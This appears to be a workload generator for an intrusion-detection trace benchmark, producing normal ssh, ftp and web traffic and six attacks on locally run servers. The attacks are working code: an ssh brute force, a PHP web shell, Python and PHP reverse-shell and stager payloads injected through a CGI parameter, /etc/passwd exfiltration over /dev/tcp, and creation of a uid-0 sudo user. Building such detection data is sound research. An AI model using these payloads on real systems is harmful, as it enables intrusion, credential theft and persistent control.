// What the traced servers of sequence-server-traces.mjs are made to do: a varied normal
// workload per server (seeded), and six attacks, each through the server's own child
// processes (sshd's and vsftpd's per-connection children, the web server's CGI children).
import { spawn } from 'node:child_process';
import { rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { PASSWORD, USER } from './servers.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const PY = '/usr/bin/python3';

/** A seeded random source (same LCG as the other sequence benches). */
export function seeded(seed) {
  let s = seed >>> 0;
  const random = () => {
    s = (Math.imul(s, 1103515245) + 12345) >>> 0;
    return s / 2 ** 32;
  };
  const int = (n) => Math.floor(random() * n);
  return { random, int, pick: (xs) => xs[int(xs.length)] };
}

/** Runs a client command; resolves with its exit code and stdout (never rejects). */
function exec(cmd, args, { input, timeout = 60_000, env } = {}) {
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { stdio: ['pipe', 'pipe', 'ignore'], timeout, env });
    const out = [];
    child.stdout.on('data', (d) => out.push(d));
    child.stdin.on('error', () => {});
    child.stdin.end(input ?? '');
    child.once('error', () => resolve({ code: -1, stdout: '' }));
    child.once('close', (code) => resolve({ code, stdout: Buffer.concat(out).toString() }));
  });
}

/** `limit` workers over `jobs` (functions returning promises). */
async function pool(jobs, limit) {
  let next = 0;
  const worker = async () => {
    while (next < jobs.length) await jobs[next++]();
  };
  await Promise.all(Array.from({ length: limit }, worker));
}

// ---- ssh --------------------------------------------------------------------------------
const sshOptions = (port) => [
  ...['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR'],
  ...['-o', 'PubkeyAuthentication=no', '-o', 'PreferredAuthentications=password'],
  ...['-o', 'NumberOfPasswordPrompts=1', '-o', 'ConnectTimeout=20'],
  ...['-p', String(port)],
];
const ssh = (port, password, command, input) =>
  exec('sshpass', ['-p', password, 'ssh', ...sshOptions(port), `${USER}@127.0.0.1`, command], { input });

// What a user runs over ssh, most common first: picked with Zipf-like weights (1/rank), so
// like real use a long tail of rarely run programs reaches the validation rounds unseen in
// training (ADFA-LD's normal validation traces hold plenty of such novelty).
const SHELL_COMMANDS = (r) => {
  const f = () => `file${r.int(6)}.txt`;
  const n = r.int(1000);
  return [
    'ls -la',
    `cat ${f()} | wc -l`,
    'ls docs',
    `grep -c data ${f()}`,
    'uname -a',
    'id',
    `head -n ${1 + r.int(20)} ${f()}`,
    'df -h .',
    'ps aux | head -5',
    'date -u',
    'uptime',
    `echo note ${n} > note${r.int(4)}.txt`,
    `sort -r ${f()} | head -3`,
    "find . -name '*.txt'",
    'tar czf backup.tgz docs && ls -l backup.tgz',
    'sha256sum file*.txt',
    `${PY} -c "print(2**${r.int(200)})"`,
    'du -s .',
    `cp ${f()} copy.txt && rm copy.txt`,
    'env | sort | head -3',
    'who',
    'free -m',
    `awk '{s+=length($0)} END {print s}' ${f()}`,
    `perl -e 'print join(",", map {$_*2} 1..${1 + r.int(30)}), "\\n"'`,
    `printf 'int main(void){return ${r.int(100)};}\\n' > t.c && gcc -o t t.c && ./t; echo $?`,
    `git init -q repo 2>/dev/null; cd repo && echo ${n} > a && git add a && git -c user.name=a -c user.email=a@b commit -qm c${n} && git log --oneline | head -2`,
    `printf 'all:\\n\\t@echo built ${n}\\n' > Makefile && make -s`,
    'hostname && whoami && groups',
    `diff file1.txt ${f()} | head -3`,
    `xz -k -f ${f()} && ls -l *.xz`,
    `openssl dgst -sha256 ${f()}`,
    `openssl rand -hex ${4 + r.int(28)}`,
    `base64 ${f()} | head -2`,
    'top -bn1 | head -5',
    'ip addr | head -4',
    `sqlite3 notes.db "create table if not exists t(x); insert into t values(${n}); select count(*) from t;"`,
    `zip -q -o z.zip file*.txt && unzip -l z.zip | tail -1`,
    `seq ${1 + r.int(50)} | shuf | head -3`,
    `tr a-z A-Z < ${f()} | head -2`,
    `stat ${f()}`,
    `echo "${n}^2" | bc`,
    `echo '{"n": ${n}}' | jq .n`,
    `od -c ${f()} | head -2`,
    'lsof -p $$ | wc -l',
    `bzip2 -k -f ${f()}`,
    'mkdir -p d/e && touch d/e/x && rm -r d',
    `file ${f()} docs`,
    'last -n 3',
    'nproc && getconf PAGE_SIZE',
    `dd if=${f()} of=/dev/null bs=512 2>&1 | tail -1`,
    `ln -sf ${f()} link.txt && readlink -f link.txt`,
    'lscpu | head -3',
    `split -l 10 ${f()} part_ && ls part_* | wc -l && rm part_*`,
    `node -e "console.log(${n} * 2)"`,
    'locale | head -2',
    `nl ${f()} | tail -1`,
    `rev ${f()} | head -1`,
    'ssh-keygen -q -t ed25519 -N "" -f k <<< y >/dev/null; ssh-keygen -l -f k.pub',
  ];
};
/** Zipf-like choice: item i with weight 1/(i+1). */
function zipf(r, items) {
  const total = items.reduce((s, _, i) => s + 1 / (i + 1), 0);
  let x = r.random() * total;
  for (let i = 0; i < items.length; i++) {
    x -= 1 / (i + 1);
    if (x < 0) return items[i];
  }
  return items[items.length - 1];
}

/**
 * Logins with varied commands, scp and sftp transfers, at most one wrong password; two
 * sessions at a time (the choices are all made first, so they do not depend on timing).
 */
export async function sshNormal(port, r, sessions, localDir) {
  const copyArgs = sshOptions(port).map((a) => (a === '-p' ? '-P' : a));
  let mistyped = false;
  const jobs = Array.from({ length: sessions }, (_, i) => {
    let kind = r.int(10);
    // One mistyped password per round: failed logins stay rare in normal use.
    if (kind === 9 && mistyped) kind = 0;
    if (kind < 6) {
      const cmds = Array.from({ length: 1 + r.int(3) }, () => zipf(r, SHELL_COMMANDS(r)));
      return () => ssh(port, PASSWORD, cmds.join('; '));
    }
    if (kind === 6) {
      const script = Array.from({ length: 2 + r.int(3) }, () => zipf(r, SHELL_COMMANDS(r))).join('\n');
      return () => ssh(port, PASSWORD, 'bash -s', `${script}\n`);
    }
    if (kind === 7) {
      const local = join(localDir, `up${i}.txt`);
      writeFileSync(local, `upload ${i}\n`.repeat(1 + r.int(500)));
      const dest = `${USER}@127.0.0.1:${r.pick(['', 'docs/'])}up${r.int(5)}.txt`;
      return () => exec('sshpass', ['-p', PASSWORD, 'scp', ...copyArgs, local, dest]);
    }
    if (kind === 8) {
      const batch = join(localDir, `batch${i}.txt`);
      const ops = [
        `get file${r.int(6)}.txt ${join(localDir, `got${i}.txt`)}`,
        'ls -l',
        'pwd',
        'cd docs',
        'ls',
      ];
      writeFileSync(batch, `${Array.from({ length: 2 + r.int(3) }, () => r.pick(ops)).join('\n')}\n`);
      const sftp = ['sftp', '-o', 'BatchMode=no', ...copyArgs, '-b', batch, `${USER}@127.0.0.1`];
      return () => exec('sshpass', ['-p', PASSWORD, ...sftp]);
    }
    // A mistyped password, then the right one.
    mistyped = true;
    const then = zipf(r, SHELL_COMMANDS(r));
    return async () => {
      await ssh(port, `${PASSWORD}x`, 'id');
      await ssh(port, PASSWORD, then);
    };
  });
  await pool(jobs, 2);
}

const GUESSES = [
  '123456',
  'password',
  'qwerty',
  'letmein',
  'admin',
  'welcome',
  'monkey',
  'dragon',
  'alice',
  'root',
];

/**
 * Hydra-like: wrong passwords, several connections at once, several guesses per connection
 * (as hydra does, up to the server's MaxAuthTries): ssh asks an askpass program, which hands
 * out the connection's guesses one by one.
 */
export async function sshBrute(port, r, connections, localDir, parallel = 6) {
  const askpass = join(localDir, 'askpass.sh');
  writeFileSync(
    askpass,
    '#!/bin/sh\nn=$(cat "$GUESSES.n" 2>/dev/null || echo 0)\necho $((n + 1)) > "$GUESSES.n"\nsed -n "$((n + 1))p" "$GUESSES"\n',
    { mode: 0o755 },
  );
  const jobs = Array.from({ length: connections }, (_, i) => {
    const guesses = Array.from({ length: 3 + r.int(3) }, () => r.pick(GUESSES) + r.int(100));
    const list = join(localDir, `guesses${i}.txt`);
    writeFileSync(list, `${guesses.join('\n')}\n`);
    rmSync(`${list}.n`, { force: true });
    const options = sshOptions(port).map((o) =>
      o === 'NumberOfPasswordPrompts=1' ? `NumberOfPasswordPrompts=${guesses.length}` : o,
    );
    const env = {
      ...process.env,
      SSH_ASKPASS: askpass,
      SSH_ASKPASS_REQUIRE: 'force',
      DISPLAY: ':0',
      GUESSES: list,
    };
    return () => exec('ssh', [...options, `${USER}@127.0.0.1`, 'id'], { env });
  });
  await pool(jobs, parallel);
}

// ---- ftp --------------------------------------------------------------------------------
export const ftpNormal = (port, seed, sessions) =>
  exec(
    PY,
    [join(here, 'ftp_client.py'), 'normal', String(port), USER, PASSWORD, String(seed), String(sessions)],
    {
      timeout: 120_000,
    },
  );
export const ftpBrute = (port, seed, attempts, parallel = 4) =>
  exec(
    PY,
    [
      join(here, 'ftp_client.py'),
      'brute',
      String(port),
      USER,
      String(seed),
      String(attempts),
      String(parallel),
    ],
    {
      timeout: 120_000,
    },
  );

// ---- web --------------------------------------------------------------------------------
async function http(port, path, init) {
  try {
    const res = await fetch(`http://127.0.0.1:${port}${path}`, {
      ...init,
      signal: AbortSignal.timeout(60_000),
    });
    return { status: res.status, text: await res.text() };
  } catch (error) {
    return { status: 0, text: String(error) };
  }
}
const form = (fields) => ({ method: 'POST', body: new URLSearchParams(fields) });
function upload(port, name, content) {
  const body = new FormData();
  body.append('file', new Blob([content]), name);
  return http(port, '/cgi-bin/upload.php', { method: 'POST', body });
}

const WORDS = ['lamp', 'chair', 'desk', 'mug', 'clock', 'x', '1', 'ke', 'zzz'];
const REQUESTS = [
  (r) => ['/', '/index.html', '/about.html', '/style.css'][r.int(4)],
  (r) => `/cgi-bin/index.php?page=${r.int(7)}`,
  (r) => `/cgi-bin/view.php?id=${r.int(70)}`, // ids over 59: 404
  (r) => `/cgi-bin/search.php?q=${r.pick(WORDS)}`,
  (r) => `/cgi-bin/lookup.php?host=${r.pick(['localhost', '127.0.0.1', 'ip6-localhost', 'nohost.invalid'])}`,
  () => '/cgi-bin/report.php',
  () => '/cgi-bin/guestbook.php',
  (r) => ['guestbook', r.pick(['ann', 'ben', 'cy']), `hello ${r.int(1000)}`],
  (r) => ['login', r.pick(['bob', 'carol']), r.int(4) === 0 ? 'wrong' : null],
  (r) => ['upload', `up${r.int(8)}.txt`, `file body ${r.random()}\n`.repeat(1 + r.int(300))],
  (r) => `/cgi-bin/download.php?name=up${r.int(10)}.txt`, // some never uploaded: 404
  (r) => `/cgi-bin/files/up${r.int(8)}.txt`,
  (r) => r.pick(['/missing.html', '/cgi-bin/nope.php', '/images/logo.png']),
];

/** A varied mix of page views, searches, posts, logins, uploads and downloads (some 404). */
export async function webNormal(port, r, requests, parallel = 2) {
  const jobs = Array.from({ length: requests }, () => {
    const what = r.pick(REQUESTS)(r);
    if (typeof what === 'string') return () => http(port, what);
    const [kind, a, b] = what;
    if (kind === 'guestbook') return () => http(port, '/cgi-bin/guestbook.php', form({ name: a, msg: b }));
    if (kind === 'login')
      return () => http(port, '/cgi-bin/login.php', form({ user: a, pass: b ?? `${a}pw` }));
    return () => upload(port, a, b);
  });
  await pool(jobs, parallel);
}

/** A listener on 127.0.0.1 for connect-back payloads; `session(socket)` drives each one. */
async function listener(session) {
  const server = createServer((socket) => {
    socket.on('error', () => {});
    session(socket).finally(() => socket.end());
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: server.address().port, close: () => server.close() };
}
const sleep = (ms) => new Promise((res) => setTimeout(res, ms));
const inject = (port, payload) =>
  http(port, `/cgi-bin/lookup.php?host=${encodeURIComponent(`localhost; ${payload}`)}`);

const RECON = [
  'id',
  'uname -a',
  'cat /etc/passwd',
  'ls -la /',
  'ps aux',
  'pwd',
  'ls -la /home',
  'cat /etc/hostname',
];

/** Uploads a PHP web shell through the upload form, then runs commands through it. */
export async function webShell(port, r, run) {
  const name = `${r.pick(['img', 'avatar', 'doc'])}${run}.php`;
  await upload(port, name, '<?php echo "<pre>"; system($_GET["c"] ?? "id"); echo "</pre>";\n');
  const back = await listener(async (s) => {
    s.resume();
    await new Promise((res) => s.once('end', res));
  });
  const commands = [
    ...RECON.filter(() => r.random() < 0.7),
    run % 2 === 0
      ? `bash -c 'cat /etc/passwd > /dev/tcp/127.0.0.1/${back.port}'`
      : `php -r '$s=fsockopen("127.0.0.1",${back.port});fwrite($s,php_uname()."\\n".file_get_contents("/etc/passwd"));'`,
  ];
  for (const c of commands) await http(port, `/cgi-bin/files/${name}?c=${encodeURIComponent(c)}`);
  back.close();
}

/** Command injection → a reverse shell: connect back, dup2 the socket onto 0-2, exec /bin/sh. */
export async function reverseShell(port, r, run) {
  const back = await listener(async (s) => {
    s.resume();
    for (const c of [...RECON.filter(() => r.random() < 0.7), 'exit']) {
      s.write(`${c}\n`);
      await sleep(60);
    }
  });
  const payload =
    run % 2 === 0
      ? `${PY} -c 'import socket,os;s=socket.create_connection(("127.0.0.1",${back.port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh"])'`
      : `php -r '$s=fsockopen("127.0.0.1",${back.port});$p=proc_open("/bin/sh",[0=>$s,1=>$s,2=>$s],$x);proc_close($p);'`;
  await inject(port, payload);
  back.close();
}

/** Reads one `LENGTH\n` + body answer of the stage. */
function answer(socket) {
  return new Promise((resolve) => {
    let buf = Buffer.alloc(0);
    const onData = (d) => {
      buf = Buffer.concat([buf, d]);
      const nl = buf.indexOf(10);
      if (nl < 0) return;
      const n = Number(buf.subarray(0, nl).toString());
      if (buf.length - nl - 1 < n) return;
      socket.off('data', onData);
      resolve(buf.subarray(nl + 1, nl + 1 + n).toString());
    };
    socket.on('data', onData);
    socket.once('close', () => resolve(''));
  });
}

/** Command injection → a stager that fetches a second stage and runs it in-process (PHP or Python). */
export async function stager(port, r, run, readStage) {
  const php = run % 2 === 0;
  const stage = Buffer.from(php ? readStage('stage.php').replace(/^<\?php/, '') : readStage('stage.py'));
  const back = await listener(async (s) => {
    const header = Buffer.alloc(4);
    header.writeUInt32BE(stage.length);
    s.write(Buffer.concat([header, stage]));
    const commands = [
      'getuid',
      'sysinfo',
      'pwd',
      'ls /etc',
      'cat /etc/passwd',
      'ps',
      'download /etc/hostname',
    ];
    for (const c of [...commands.filter(() => r.random() < 0.8), `shell ${r.pick(RECON)}`]) {
      s.write(`${c}\n`);
      await answer(s);
    }
    s.write('exit\n');
  });
  const payload = php
    ? `php -r '$s=fsockopen("127.0.0.1",${back.port});$n=unpack("N",fread($s,4))[1];$c="";while(strlen($c)<$n)$c.=fread($s,$n-strlen($c));eval($c);'`
    : `${PY} -c 'import socket,struct;s=socket.create_connection(("127.0.0.1",${back.port}));n=struct.unpack(">I",s.recv(4,socket.MSG_WAITALL))[0];exec(s.recv(n,socket.MSG_WAITALL))'`;
  await inject(port, payload);
  back.close();
}

/** Command injection → a new uid-0 user with a password and sudo rights (in a copy of /etc:
 *  useradd/usermod --prefix, so the host's files are never changed). */
export async function addUser(port, r, run, victim) {
  const user = `${r.pick(['toor', 'sysadm', 'backup2', 'svc'])}${run}`;
  const steps = [
    `/usr/sbin/useradd --prefix ${victim} -m -s /bin/bash -o -u 0 ${user}`,
    `/usr/sbin/usermod --prefix ${victim} -p $(openssl passwd -6 ${r.pick(GUESSES)}) -aG sudo ${user}`,
    `echo '${user} ALL=(ALL) NOPASSWD:ALL' >> ${victim}/etc/sudoers`,
    `grep ${user} ${victim}/etc/passwd`,
  ];
  if (r.int(2) === 0) steps.unshift('id');
  await inject(port, steps.join('; '));
}
